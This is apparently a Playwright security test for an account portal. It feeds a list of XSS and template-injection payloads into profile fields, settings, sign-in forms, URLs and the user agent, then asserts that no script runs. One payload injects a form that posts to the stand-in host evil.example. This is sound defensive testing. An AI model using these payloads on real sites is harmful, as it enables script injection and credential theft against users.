"""Security 23: hostile text in every field and in the user agent is text, on every page, in mail and in the outbox."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from myaccount.claims.models import Claim
from myaccount.outbox.models import Message
from myaccount.users.models import User
from myaccount.web.models import PortalSettings
from profile.models import Profile
from tests.journeys.conftest import NewVisitor
from tests.journeys.visitor import PERSONAL_INFO, SECURITY
from tests.support.people import FIREFOX, PASSPHRASE

pytestmark = pytest.mark.looks

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'-alert(3)-'",
    "</title></textarea></script><svg onload=alert(4)>",
    "javascript:alert(5)",
    "{{ 7|add:7 }}{% now 'Y' %}",
    "<dialog open data-dialog-content><form method=post action=https://evil.example/>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_does_nothing_anywhere(alice: User, new_visitor: NewVisitor, payload: str) -> None:
    """The visitor fails on any dialog, script error, refused resource or request elsewhere."""
    Claim.objects.create(name="hostile", label=payload[:60], help_text=payload, order=1)
    PortalSettings(product_name=payload[:60], footer=payload, support_url="https://x.example/").save()
    Profile.objects.update(values=dict.fromkeys(("given_name", "organization", "im", "address"), payload))
    User.objects.update(display_name=payload)
    visitor = new_visitor(user_agent=f"{FIREFOX} {payload} " + ";" * 600)
    page = visitor.open("/myaccount/")
    page.get_by_label("Username or e-mail address").fill(payload)
    page.get_by_label("Password", exact=True).fill(payload)
    page.get_by_role("button", name="Sign In", exact=True).click()
    expect(page.get_by_role("alert").filter(has_text="That did not work.")).to_be_visible()
    visitor.sign_in(password=PASSPHRASE)
    expect(page.get_by_role("heading", level=1)).to_have_text(f"Welcome, {payload}")
    for name in ("family_name", "department", "url"):
        visitor.open(f"{PERSONAL_INFO}?edit={name}")
        page.locator("#id_value").fill(payload)
        page.get_by_role("button", name="Save").click()
        page.wait_for_load_state()
    expect(page.get_by_role("alert")).to_be_visible()  # no such address
    for path in (PERSONAL_INFO, f"{PERSONAL_INFO}?edit=hostile", f"{PERSONAL_INFO}?edit={payload}", SECURITY,
                 f"{SECURITY}history/?kind={payload}", "/myaccount/confirm/", "/outbox/",
                 f"/myaccount/sign-in/?next={payload}", f"/myaccount/{payload}"):  # fmt: skip
        visitor.open(path)
        assert page.locator("svg[onload], img[onerror], script:not([src])").count() == 0
    visitor.open(SECURITY)
    page.get_by_role("link", name="Terminate all").click()
    expect(page.get_by_role("dialog").last).to_be_visible()
    for message in Message.objects.all():
        page.set_content(message.html)
        assert page.locator("svg[onload], img[onerror], script").count() == 0
